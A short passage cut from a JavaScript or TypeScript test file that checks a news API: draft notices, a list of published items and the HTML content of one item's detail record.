      expect(notices.some((r) => r.status === 'draft')).toBe(true);
      const items = (await t.call(newsList, { status: 'published', pageSize: 200 }, { token })).data.list;
      expect(items.length).toBeGreaterThan(0);
      const detail = (await t.call(newsDetail, { id: items.at(-1)!.id }, { token })).data;
      expect(detail.content).toContain('<p>');
      expect(problemsOf(detail.content)).toEqual([]);
    }
  });
});
